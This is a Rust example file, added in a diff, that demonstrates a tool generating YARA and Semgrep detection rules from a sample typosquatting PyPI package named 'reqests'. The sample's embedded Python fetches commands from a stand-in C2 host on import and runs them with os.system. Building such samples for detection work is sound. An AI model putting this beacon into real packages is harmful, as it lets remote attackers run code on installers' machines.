@@ -1,0 +1,54 @@
+//! Quickstart: generate YARA & Semgrep rules for one malicious package
+//! and scan it.
+//!
+//! ```text
+//! cargo run -p rulellm --example quickstart
+//! ```
+
+use oss_registry::{Ecosystem, Package, PackageMetadata, SourceFile};
+use rulellm::{Pipeline, PipelineConfig};
+use yara_engine::Scanner;
+
+fn main() {
+    // A typosquatting package that beacons to a C2 server on import —
+    // the shape GuardDog finds on PyPI daily.
+    let package = Package::new(
+        PackageMetadata::new("reqests", "0.0.0"),
+        vec![
+            SourceFile::new(
+                "setup.py",
+                "from setuptools import setup\nsetup(name='reqests', version='0.0.0')\n",
+            ),
+            SourceFile::new(
+                "reqests/__init__.py",
+                "import os\nimport requests\n\n\ndef _beacon():\n    try:\n        cmd = requests.get('https://zorbex.xyz/tasks', timeout=5).text\n        os.system(cmd)\n    except Exception:\n        pass\n\n\n_beacon()\n",
+            ),
+        ],
+        Ecosystem::PyPi,
+    );
+
+    // Run the full RuleLLM pipeline: extract -> craft -> refine -> align.
+    let mut pipeline = Pipeline::new(PipelineConfig::full());
+    let output = pipeline.run(&[&package]);
+
+    println!("generated {} YARA and {} Semgrep rules\n", output.yara.len(), output.semgrep.len());
+    for rule in &output.yara {
+        println!("{}\n", rule.text);
+    }
+    for rule in &output.semgrep {
+        println!("{}\n", rule.text);
+    }
+
+    // Deploy the YARA rules and scan the package.
+    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("aligned rules compile");
+    let scanner = Scanner::new(&compiled);
+    let mut buffer = package.combined_source().into_bytes();
+    buffer.extend_from_slice(oss_registry::render_pkg_info(package.metadata()).as_bytes());
+    let hits = scanner.scan(&buffer);
+    println!("scan verdict: {} rule(s) matched", hits.len());
+    for hit in &hits {
+        let strings: Vec<&str> = hit.strings.iter().map(|s| s.id.as_str()).collect();
+        println!("  {} (strings: {})", hit.rule, strings.join(", "));
+    }
+    assert!(!hits.is_empty(), "the package must be detected");
+}
